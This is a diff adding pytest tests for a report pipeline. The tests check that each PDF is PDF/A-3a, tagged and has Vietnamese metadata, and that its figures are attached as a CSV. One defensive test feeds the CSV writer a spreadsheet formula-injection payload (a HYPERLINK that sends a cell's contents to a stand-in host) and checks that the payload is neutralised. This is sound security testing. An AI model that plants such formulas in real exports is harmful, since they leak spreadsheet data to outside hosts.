@@ -1,0 +1,51 @@
+"""Every report PDF is archival and accessible: PDF/A-3a, tagged, XMP metadata, its figures attached as CSV."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+
+pikepdf = pytest.importorskip("pikepdf")
+
+
+@pytest.mark.slow
+def test_every_pdf_is_pdfa_3a_tagged_with_metadata_and_its_figures(built_reports):
+    out, summary = built_reports
+    entries = json.loads((out / "manifest.json").read_text(encoding="utf-8"))["reports"]
+    pdfs = sorted(out.rglob("*.pdf"))
+    assert len(pdfs) == 5 and summary.failed == 0
+    for path in pdfs:
+        entry = next(e for e in entries.values() if f"{e['stem']}.pdf" == path.relative_to(out).as_posix())
+        with pikepdf.open(path) as pdf:
+            assert pdf.Root.MarkInfo.Marked is True and "/StructTreeRoot" in pdf.Root, path.name
+            assert str(pdf.Root.Lang) == "vi"
+            meta = pdf.open_metadata()
+            assert meta["pdfaid:part"] == "3" and meta["pdfaid:conformance"] == "A"
+            assert meta["dc:title"] == entry["title"]
+            assert meta["dc:language"] == {"vi"}
+            assert meta["xmp:CreateDate"].startswith("2022-12-31") and meta["pdf:Producer"].startswith("WeasyPrint")
+            (name,) = pdf.attachments.keys()
+            assert name == f"{path.stem}.csv"
+            data = pdf.attachments[name].get_file().read_bytes()
+        assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
+        rows = {row["figure"]: row["value"] for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
+        recorded = entry["recorded"]
+        if entry["kind"] == "province" and recorded["profile"].get("returned"):
+            assert float(rows["profile.staff_total"]) == recorded["profile"]["staff_total"]
+        if entry["kind"] == "national":
+            assert float(rows["national.staff_total"]) == recorded["national"]["staff_total"]
+        assert rows, path.name
+
+
+def test_the_figures_csv_is_formula_safe_and_keeps_numbers():
+    from analysis.reports.render import figures_csv
+
+    data = figures_csv({"profile": {"notes": '=HYPERLINK("http://x/?"&A1,"click")', "staff_total": 12,
+                                    "change": -3, "names": ["@a", "b"]}})
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows[0] == ["figure", "value"]
+    assert dict(rows[1:]) == {"profile.notes": '\'=HYPERLINK("http://x/?"&A1,"click")', "profile.staff_total": "12",
+                              "profile.change": "-3", "profile.names": "'@a; b"}
